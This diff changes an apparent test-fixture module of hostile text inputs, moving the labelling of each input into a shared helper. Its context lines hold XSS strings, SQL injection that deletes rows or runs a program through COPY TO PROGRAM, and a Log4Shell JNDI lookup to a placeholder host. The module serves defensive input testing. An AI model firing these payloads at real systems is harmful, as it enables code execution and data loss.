@@ -36,6 +36,12 @@ export const INVISIBLE = [0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e
   }),
 );
 
+/** The i-th payload of a family, inside an ordinary complaint. */
+const payload = (family: string, s: string, i: number): HostileText => ({
+  label: `${family} ${i + 1}`,
+  text: around(` ${s}`),
+});
+
 /** Script a page could run; each sets `window.__pwned` so a browser shows whether it ran. */
 export const MARKUP: HostileText[] = [
   '<script>window.__pwned=1</script>',
@@ -50,7 +56,7 @@ export const MARKUP: HostileText[] = [
   '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
   '{{constructor.constructor("window.__pwned=1")()}}',
   '<body onload="window.__pwned=1">',
-].map((s, i) => ({ label: `markup ${i + 1}`, text: around(` ${s}`), html: true as const }));
+].map((s, i) => ({ ...payload('markup', s, i), html: true as const }));
 
 /** SQL that would do harm if anything built a query by concatenation. */
 export const SQL: HostileText[] = [
@@ -60,7 +66,7 @@ export const SQL: HostileText[] = [
   "$$; COPY (SELECT '') TO PROGRAM 'id'; $$",
   "\\'); DELETE FROM report_transitions; --",
   "E'\\x00'",
-].map((s, i) => ({ label: `sql ${i + 1}`, text: around(` ${s}`) }));
+].map((s, i) => payload('sql', s, i));
 
 /** Shell, template and format-string metacharacters. */
 export const SHELL: HostileText[] = [
@@ -71,7 +77,7 @@ export const SHELL: HostileText[] = [
   '%s%s%s%s%n%n',
   '${jndi:ldap://203.0.113.9/a}',
   '${7*7}#{7*7}<%= 7*7 %>',
-].map((s, i) => ({ label: `shell ${i + 1}`, text: around(` ${s}`) }));
+].map((s, i) => payload('shell', s, i));
 
 /** Unicode at its edges: a lone surrogate, stacked combining marks, non-characters, astral. */
 export const UNICODE: HostileText[] = [
